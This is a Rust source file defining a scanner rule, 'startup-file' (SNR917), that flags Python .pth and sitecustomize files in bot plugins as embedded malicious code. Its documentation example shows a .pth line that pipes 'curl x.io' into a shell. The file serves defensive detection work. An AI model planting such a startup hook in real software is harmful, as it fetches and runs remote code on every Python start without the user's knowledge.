//! `startup-file`: a file that Python runs at every start, whoever imports it.

use crate::core::finding::{Confidence, Kind, Rule, Severity};

/// The rule.
pub(crate) static STARTUP_FILE: Rule = Rule {
    id: "SNR917",
    name: "startup-file",
    kind: Kind::Violation,
    cwe: 506,
    severity: Severity::High,
    confidence: Confidence::High,
    help: "remove the file",
    docs: r#"## What it does

Flags `.pth` files, `sitecustomize.py` and `usercustomize.py` in a plugin.

## Why it is bad

The module `site` runs them whenever Python starts with their folder in its path, also in other programs, and before
any check of the bot. A plugin is imported by name and needs none.

## Example

```python
import os; os.system("curl x.io | sh")  # in a file `helper.pth`
```

## Fix

Remove the file. An editable install leaves a `.pth` in `site-packages`, not in the plugin.

## References

- https://docs.python.org/3/library/site.html
- CWE-506: https://cwe.mitre.org/data/definitions/506.html
"#,
};
